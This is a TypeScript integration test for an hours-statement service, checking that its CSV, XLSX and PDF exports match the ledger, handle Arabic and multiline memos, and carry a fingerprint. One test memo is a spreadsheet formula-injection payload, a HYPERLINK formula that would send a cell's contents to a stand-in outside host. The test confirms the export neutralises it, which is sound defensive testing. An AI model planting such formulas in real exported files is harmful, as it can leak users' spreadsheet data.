import express from 'express';
import { strFromU8, unzipSync } from 'fflate';
import { readSheet } from 'read-excel-file/node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { people } from '../../src/db/schema/desk.ts';
import { fingerprintOf, linkStatement } from '../../src/db/hours/statements.ts';
import { locales, type Locale } from '../../src/domain/locale.ts';
import { serveStatements } from '../../src/statements/route.ts';
import { at } from '../db/hours/sample-hours.ts';
import { firstWeek, nextMonday, workedWeeks } from '../db/hours/worked-weeks.ts';
import { testDatabase } from '../support/database.ts';
import { serving, type Serving } from '../support/serving.ts';
import { query } from '../support/stored.ts';
import { amountsInCsv, amountsInPdf, amountsInXlsx, csvRows, pdfPages } from './reading-back.ts';

const { db, url: databaseUrl } = await testDatabase();
const worked = await workedWeeks(db, 'stated');
const { agency, client, inTx } = worked;
let server: Serving;

const memos = {
  formula: '=HYPERLINK("https://example.com/?q="&A1,"press, please")',
  arabic: 'قارنتُ ثلاث شركات (SAS، 6:40) بدون أمتعة',
  lines: 'First line\nSecond, with “quotes” and "others"',
};

beforeAll(async () => {
  const app = express();
  serveStatements({ app, db, now: () => nextMonday, log: { error: () => undefined } });
  server = await serving(app);
  await inTx((tx) => tx.update(people).set({ name: 'Sara سارة Yoʻldosheva' }));
  await worked.works('2026-11-17T09:00Z', 60, { endedAt: at('2026-11-17T10:30:05Z'), memo: memos.formula });
  const slip = await worked.works('2026-11-18T09:00Z', 61, { source: 'manual', memo: memos.arabic });
  await worked.works('2026-11-19T22:30Z', 60, { endedAt: at('2026-11-19T23:47:11Z'), memo: memos.lines });
  await worked.drawsUp(firstWeek, nextMonday);
  await worked.corrects(slip, { endedAt: at('2026-11-18T09:44:59Z') }, nextMonday);
});

afterAll(() => server.stop());

async function download(locale: Locale, ending: string): Promise<Buffer> {
  const link = { clientId: client.id, periodOn: firstWeek, locale, madeBy: agency.managerId };
  const { token } = await inTx((tx) => linkStatement(tx, agency.id, link, nextMonday));
  const response = await fetch(`${server.url}/statements/${token}.${ending}`);
  expect(response.status).toBe(200);
  return Buffer.from(await response.arrayBuffer());
}

/** As the ledger has them, the sums last. */
async function ledgerAmounts() {
  const rows = await query<{ exact: number; charged: number }>(
    { databaseUrl },
    `select exact_seconds as exact, rounded_seconds as charged
     from ledger_lines l join time_entries e using (agency_id, entry_id)
     where l.client_id = $1 and period_on = $2 order by work_on, started_at, line_no`,
    [client.id, firstWeek.toString()],
  );
  const withSum = (seconds: readonly number[]) => [...seconds, seconds.reduce((sum, one) => sum + one, 0)];
  return {
    exact: withSum(rows.map(({ exact }) => exact)),
    charged: withSum(rows.map(({ charged }) => charged)),
  };
}

it('has a day cut at midnight, seconds, and time that was taken back to tell of', async () => {
  const { exact, charged } = await ledgerAmounts();
  expect(exact).toEqual([5405, 3660, -3660, 2699, 1800, 2831, 12735]);
  expect(charged).toEqual([6300, 4500, -4500, 2700, 1800, 3600, 14400]);
});

describe.each(locales)('a statement in %s says what the ledger says, to the second,', (locale) => {
  it('as CSV', async () => {
    const { asTime, asSeconds } = amountsInCsv(await download(locale, 'csv'));
    const amounts = await ledgerAmounts();
    expect(asTime).toEqual(amounts);
    expect(asSeconds).toEqual(amounts);
  });

  it('as XLSX', async () => {
    const { asTime, asSeconds } = await amountsInXlsx(await download(locale, 'xlsx'));
    const amounts = await ledgerAmounts();
    expect(asTime).toEqual(amounts);
    expect(asSeconds).toEqual(amounts);
  });

  it('as PDF, in its head as well', async () => {
    const { head, ...inTable } = await amountsInPdf(await download(locale, 'pdf'), 2);
    const amounts = await ledgerAmounts();
    expect(inTable).toEqual(amounts);
    expect(head).toEqual([amounts.charged.at(-1), amounts.exact.at(-1)]);
  });
});

describe('the CSV', () => {
  it('has ISO dates, whole memos and marks, in the reader’s language', async () => {
    const [labels, ...rows] = csvRows(await download('en', 'csv'));
    expect(labels?.slice(0, 6)).toEqual(['Line', 'Date', 'Assistant', 'Task', 'Title', 'Memo']);
    expect(rows.map((row) => row[1])).toEqual([
      '2026-11-17',
      '2026-11-18',
      '2026-11-18',
      '2026-11-18',
      '2026-11-19',
      '2026-11-20',
      '',
    ]);
    expect(rows[1]?.slice(5, 9)).toEqual([memos.arabic, 'logged by hand', '', '']);
    expect(rows[2]?.slice(7, 8)).toEqual(['takes back line 2: “a slip”']);
    expect(rows[4]?.slice(2, 6)).toEqual(['Sara سارة Yoʻldosheva', '1', 'Book a flight', memos.lines]);
    expect(csvRows(await download('de', 'csv'))[0]?.slice(0, 3)).toEqual(['Zeile', 'Datum', 'Assistenz']);
  });

  it('is UTF-8 with its mark, has lines that end as RFC 4180 wants, and lets no memo calculate', async () => {
    const file = await download('en', 'csv');
    const text = file.toString();
    expect([...file.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(text.split('\r\n')).toHaveLength(9);
    expect(text).toContain(`"'=HYPERLINK(""https://example.com/?q=""&A1,""press, please"")"`);
  });
});

describe('the XLSX', () => {
  it('has dates and numbers, no formulas, and a sheet that Arabic is read in from the right', async () => {
    const [, first] = await readSheet(await download('en', 'xlsx'));
    expect(first?.slice(0, 6)).toEqual([
      1,
      new Date('2026-11-17'),
      expect.any(String),
      1,
      'Book a flight',
      memos.formula,
    ]);
    const sheet = async (locale: Locale) =>
      strFromU8(unzipSync(await download(locale, 'xlsx'))['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
    expect(await sheet('ar')).toContain('rightToLeft="1"');
    expect(await sheet('en')).not.toContain('rightToLeft');
    expect(await sheet('en')).not.toContain('<f>');
  });
});

describe('the PDF', () => {
  it('names the client, the assistant and the task, counts its pages and carries the fingerprint', async () => {
    const fingerprint = await inTx((tx) => fingerprintOf(tx, { clientId: client.id, periodOn: firstWeek }));
    const text = (await pdfPages(await download('en', 'pdf'))).flat().join(' ');
    expect(text).toContain('Statement of hours');
    expect(text).toContain('Page 1 of 1');
    expect(text).toContain('Book a flight');
    expect(text).toContain(fingerprint?.hash);
  });
});
